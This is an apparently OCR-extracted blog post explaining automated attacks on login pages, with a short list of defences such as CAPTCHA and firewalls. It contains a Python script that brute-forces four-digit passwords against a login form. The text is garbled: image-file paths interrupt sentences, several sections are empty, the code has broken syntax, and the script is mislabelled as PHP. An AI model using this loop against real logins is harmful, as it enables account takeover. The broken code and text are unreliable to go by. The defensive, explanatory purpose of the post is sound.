Cybersecurity: What is Automated Attacks?


2 min read


Automated attacks refer to vulnerabilities where attackers use computerprograms or scripts to automatically target a system.

Vulnerability Points

  • Login page

  • Post submission

  • Social media sharing page

Vulnerability Verification Methods

  • Repeatedly attempting requests without any issues

Attack Methods

Attack Scenarios

Common scenarios for automated attacks can include:

  • Using automated tools to repeatedly attempt logins.

  • The attacker captures the passwords of users with weak passwords.Occurrence Process

Attack Example

The following example is a Python code designed to repeatedly attempt logins on a login site that has only a 4-digitpassword, written in PHP.

import requests

url = '<>'
username = 'test'
password = '1234'

# Create a session
session =requests.Session()

# Send POST requests
for i in range(1, 9999):
    data = {
        'user_id': username,
        'user_pass': i

    response =, data=data)

    # Check the response
    if response.status_code == 200:
        print('Request Password: ', i)
        print('Response Content:', response.text)
        print('Request failed. Status code:', response.status_code)1. Strong Authentication and Encryption: Prevent malicious access by using robust CAPTCHA authentication methods and encryption.

  2. Network Security: Monitor network traffic and detect malicious activities using firewalls, intrusion detection systems, and other security measures.

  3. Web Application Security: Adhere to secure coding practices to prevent vulnerabilities in web applications andimplement appropriate web application firewalls.

Did you find this article valuable?

Support Han by becoming a sponsor. Any amount is appreciated!